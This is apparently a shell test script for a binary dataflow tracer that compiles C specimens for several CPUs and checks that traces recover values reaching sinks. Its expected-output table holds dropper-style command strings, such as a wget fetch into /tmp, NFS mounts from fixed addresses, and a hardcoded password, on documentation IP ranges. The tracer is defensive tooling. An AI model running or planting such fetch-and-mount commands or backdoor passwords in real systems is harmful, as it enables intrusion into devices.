#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-or-later
# Specimens of tests/flow, compiled for each CPU whose compiler is installed, dynamic and static, -O2 and -Os,
# stripped: executing them must resolve the value at the sink. flow.sh TRACE_DUMP WORKER SPECIMENS
dump=$1 worker=$2 sources=$3
dir=$(mktemp -d "${TMPDIR:-.}/flow.XXXXXX") || exit 1
trap 'rm -rf "$dir"' EXIT
n=0 failed=0
say() { n=$((n + 1)); echo "$1 $n - $2"; [ "$1" = ok ] || failed=1; }

# specimen, what must stand in the trace (fixed text)
expected() {
	case $1 in
	mount_text) echo '"text":"mount -o nolock -t nfs 192.0.2.119:/pm /mnt","origin":"constant"' ;;
	mount_parts) echo '"text":"mount -t nfs -o nolock 192.0.2.119:/pm /mnt","origin":"built"' ;;
	connect_number) echo '"address":"192.0.2.119","port":515' ;;
	decode_xor) echo '"address":"192.0.2.119","port":9600' ;;
	connect_table) echo '"address":"192.0.2.10","port":511' ;;
	connect_behind) echo '"address":"192.0.2.119","port":515' ;;
	connect_stale) echo '"family":"inet"' ;;
	run_pointer) echo '"origin":"outside","source":"socket:inet datagram"' ;;
	run_twice) echo '"text":"cp -r /mnt/bin /opt","origin":"constant"' ;;
	place_guarded) echo '"address":"192.0.2.33","port":5033' ;;
	place_number) echo '"address":"203.0.113.45","port":5140' ;;
	place_local) echo '"text":"wget http://192.0.2.51/{argv} -O /tmp/x"' ;;
	place_helper) echo '"text":"mount -t nfs 192.0.2.64:/data /mnt"' ;;
	compare_parts) echo '"name":"constant","text":"open-sesame-77","origin":"constant"' ;;
	connect_config) echo '"text":"mount -t nfs {file:/etc/monitor.conf}:/data /mnt","origin":"outside"' ;;
	esac
}

check_last() { # name, pattern
	if grep -qF "$2" "$dir/out"; then say ok "$1"; else say "not ok" "$1"; tail -c 300 "$dir/out" | sed 's/^/# /'; fi
}
check() { # name, program, pattern
	"$dump" "$worker" "$2" >"$dir/out" 2>/dev/null
	check_last "$1" "$3"
}
check_absent() { # name, pattern
	if grep -qF "$2" "$dir/out"; then say "not ok" "$1"; else say ok "$1"; fi
}

for cc in arm-linux-gnueabi-gcc arm-linux-gnueabihf-gcc aarch64-linux-gnu-gcc mips-linux-gnu-gcc mipsel-linux-gnu-gcc \
	powerpc-linux-gnu-gcc i686-linux-gnu-gcc cc; do
	if ! command -v $cc >/dev/null; then
		n=$((n + 1))
		echo "ok $n - $cc # SKIP not installed"
		continue
	fi
	for source in "$sources"/*.c; do
		name=$(basename "$source" .c)
		want=$(expected "$name")
		case $name in place_*) hows=-O2 ;; *) hows="-O2 -Os" ;; esac
		for how in $hows; do
			$cc $how -w -s -o "$dir/program" "$source" 2>/dev/null && check "$cc $how $name" "$dir/program" "$want"
			case $name in
			connect_stale) check_absent "$cc $how a pointer is no address" '"address"' ;;
			place_helper) check_absent "$cc $how $name, no further than the guard" 192.0.2.65 ;;
			esac
		done
	done
	# Statically linked, stripped: fopen(), fgets(), sscanf(), snprintf(), system() are known by what they do; and what
	# comes after a system() stands on the same path.
	if $cc -O2 -w -s -static -o "$dir/program" "$sources/connect_config.c" 2>/dev/null; then
		check "$cc static connect_config" "$dir/program" '"callee":"system","class":"run"'
		check_last "$cc static connect_config, the command" "$(expected connect_config)"
	fi
	if $cc -O2 -w -s -static -o "$dir/program" "$sources/run_twice.c" 2>/dev/null; then
		check "$cc static run_twice" "$dir/program" "$(expected run_twice)"
	fi
done

# The benign twin names no address at all.
if cc -O2 -w -s -o "$dir/program" "$sources/connect_config.c"; then
	"$dump" "$worker" "$dir/program" >"$dir/out" 2>/dev/null
	if grep -q '"address"' "$dir/out"; then say "not ok" "the twin has no fixed address"; else say ok "the twin has no fixed address"; fi
	# The same program gives the same trace.
	"$dump" "$worker" "$dir/program" >"$dir/again" 2>/dev/null
	if cmp -s "$dir/out" "$dir/again"; then say ok "the same trace again"; else say "not ok" "the same trace again"; fi
	# Bad input: cut at every 997th byte, and bytes turned round; always a summary, never a dead end.
	size=$(wc -c <"$dir/program") at=0 bad=0
	while [ $at -lt "$size" ]; do
		head -c $at "$dir/program" >"$dir/cut"
		[ $at -eq 0 ] || "$dump" "$worker" "$dir/cut" 2>/dev/null | grep -q '"kind":"fwtrace"' || bad=1
		{ head -c $at "$dir/program"; printf '\377\377\377\177'; tail -c +$((at + 5)) "$dir/program"; } >"$dir/cut"
		"$dump" "$worker" "$dir/cut" 2>/dev/null | grep -q '"kind":"fwtrace"' || bad=1
		at=$((at + 997))
	done
	if [ $bad = 0 ]; then say ok "damaged programs end with a summary"; else say "not ok" "damaged programs end with a summary"; fi
fi
echo "1..$n"
exit $failed
